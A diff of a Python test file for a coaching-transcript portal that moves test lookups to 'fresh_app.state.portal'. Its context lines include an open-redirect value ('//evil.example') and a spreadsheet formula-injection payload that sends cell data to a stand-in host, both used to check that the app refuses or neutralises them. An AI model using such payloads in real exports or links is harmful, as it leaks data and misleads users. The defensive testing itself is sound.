@@ -39,11 +39,11 @@ def test_a_coachs_correction_reaches_the_supervisor_and_the_export(fresh_app, tm
     assert boss.post("/corrections/1/decision", {"decision": "accept", "back": "/corrections"}).status_code == 303
     assert boss.post("/corrections/2/decision", {"decision": "reject", "back": "//evil.example"}).headers["location"] == "/corrections"
     assert boss.post("/corrections/1/decision", {"decision": "reject"}).status_code == 409  # decided already
-    statuses = {c.id: c.status.value for c in fresh_app.portal.corrections.for_session("a-first")}
+    statuses = {c.id: c.status.value for c in fresh_app.state.portal.corrections.for_session("a-first")}
     assert statuses == {1: "accepted", 2: "rejected"}
     assert 'data-status="accepted"' in coach.get("/sessions/a-first/").text  # the coach sees the outcome
 
-    out = fresh_app.portal.library.out_dir
+    out = fresh_app.state.portal.library.out_dir
     target = tmp_path / "corrections.csv"
     result = CliRunner().invoke(cli_app, ["corrections", "export", str(out), "--out", str(target)])
     assert result.exit_code == 0, result.output
@@ -65,7 +65,7 @@ def test_invalid_proposals_are_refused(fresh_app):
         response = coach.post("/sessions/a-first/utterances/0/feedback", {"proposal": proposal})
         assert response.status_code == 400, proposal
     assert coach.post("/sessions/a-first/utterances/1/feedback", {"proposal": "client_talk=neutral"}).status_code == 303
-    assert fresh_app.portal.corrections.for_session("a-first")[0].old_value == "change"
+    assert fresh_app.state.portal.corrections.for_session("a-first")[0].old_value == "change"
 
 
 def test_export_skips_a_correction_whose_session_was_reprocessed(fresh_app, tmp_path):
@@ -74,7 +74,7 @@ def test_export_skips_a_correction_whose_session_was_reprocessed(fresh_app, tmp_
     boss.login("boss")
     coach.post("/sessions/b-first/utterances/0/feedback", {"proposal": "question=closed"})
     boss.post("/corrections/1/decision", {"decision": "accept"})
-    out = fresh_app.portal.library.out_dir
+    out = fresh_app.state.portal.library.out_dir
     changed = fidelity_session("b-first", 0.72, coach="Coach B")
     changed.utterances.loc[0, "text"] = "A different first question?"
     write_session(changed, out)
@@ -92,7 +92,7 @@ def test_the_audit_trail_and_its_command(fresh_app):
     boss.login("boss")
     boss.post("/corrections/1/decision", {"decision": "reject"})
     coach.post("/logout")
-    events = AuditLog(fresh_app.portal.store).events()
+    events = AuditLog(fresh_app.state.portal.store).events()
     seen = [(e.action, e.username, e.session_id) for e in events]
     assert seen == [
         (Action.LOGIN_FAILED, "Coach A", None), (Action.LOGIN, "Coach A", None),
@@ -101,7 +101,7 @@ def test_the_audit_trail_and_its_command(fresh_app):
     ]
     assert "question open -> closed" in events[3].detail and "secret words" not in events[3].detail
 
-    out = str(fresh_app.portal.library.out_dir)
+    out = str(fresh_app.state.portal.library.out_dir)
     result = CliRunner().invoke(cli_app, ["audit", out])
     assert result.exit_code == 0 and result.output.count("\n") == 1 + len(events)
     assert "login-failed\tCoach A\ttestclient" in result.output
@@ -194,7 +194,7 @@ def test_export_neutralises_formula_cells_and_training_reads_them_back(fresh_app
     """Utterance text that starts with = + - @ is shown as text by a spreadsheet, and read back as said (issue 27)."""
     from mifidelity.training.data import load_corrections
 
-    out = fresh_app.portal.library.out_dir
+    out = fresh_app.state.portal.library.out_dir
     hostile = fidelity_session("b-first", 0.72, coach="Coach B")
     hostile.utterances.loc[0, "text"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
     write_session(hostile, out)
